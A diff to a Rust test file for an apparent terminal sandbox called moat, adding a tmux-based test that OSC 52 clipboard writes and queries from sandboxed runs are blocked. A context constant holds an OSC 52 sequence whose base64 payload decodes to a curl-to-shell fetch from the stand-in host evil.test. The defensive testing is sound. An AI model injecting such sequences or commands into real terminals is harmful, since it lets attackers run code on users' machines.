@@ -6,7 +6,8 @@
 use moat_test_support::{FakeUpstream, Reply};
 
 use crate::egress::run_against;
-use crate::harness::TestEnv;
+use crate::harness::{TestEnv, wait_for};
+use crate::interactive::Tmux;
 
 /// An OSC 52 clipboard write: what a hostile agent would most like a terminal to act on.
 const CLIPBOARD_WRITE: &str = "\u{1b}]52;c;Y3VybCBldmlsLnRlc3R8c2g=\u{7}";
@@ -179,4 +180,49 @@ fn names_in_a_strangers_settings_or_bundle_are_shown_as_text() {
     assert!(verify.stdout.starts_with("NOT verified"), "{verify:?}");
     assert!(verify.stdout.contains("has no entries"), "{verify:?}");
     assert_eq!(acting(&verify.stdout), Vec::<char>::new(), "{verify:?}");
+}
+
+/// A program attached to the user's terminal can neither write the clipboard nor ask for
+/// it (OSC 52), interactive or not; tmux, with `set-clipboard on`, is the terminal that
+/// would take it (a paste buffer appears), as the control without moat shows.
+#[test]
+fn an_attached_run_cannot_reach_the_clipboard() {
+    let env = TestEnv::new();
+    let tmux = Tmux::new(&env);
+    let script = "read go; printf '\\033]52;c;cHduZWQ=\\007'; printf '\\033]52;c;?\\033\\\\'; \
+                  echo written-$((6*7)); sleep 600";
+    tmux.start(&env, "shell", &format!("run -i -- sh -c \"{script}\""));
+    tmux.command(&["set-option", "-s", "set-clipboard", "on"]);
+    // The control: the same sequence from a program tmux runs itself becomes a buffer.
+    tmux.command(&[
+        "new-session",
+        "-d",
+        "-s",
+        "control",
+        "printf '\\033]52;c;Y29udHJvbA==\\007'; sleep 600",
+    ]);
+    wait_for("the control's buffer", || {
+        let buffers = tmux.command(&["list-buffers"]);
+        buffers.contains("control").then_some(())
+    });
+    tmux.command(&["delete-buffer"]);
+
+    tmux.wait_screen("shell", "Escape sequences");
+    std::thread::sleep(std::time::Duration::from_millis(500));
+    tmux.keys("shell", &["Enter"]);
+    tmux.wait_screen("shell", "written-42");
+    // And a run that is not interactive, its output on the same kind of terminal.
+    tmux.start(
+        &env,
+        "plain",
+        "run -- sh -c \"printf '\\033]52;c;cHduZWQ=\\007'; echo plain-$((6*7))\"",
+    );
+    tmux.wait_screen("plain", "plain-42");
+    tmux.wait_screen("plain", "MOAT-EXIT=0");
+    std::thread::sleep(std::time::Duration::from_millis(300));
+    assert_eq!(
+        tmux.command(&["list-buffers"]),
+        "",
+        "the clipboard was reached"
+    );
 }
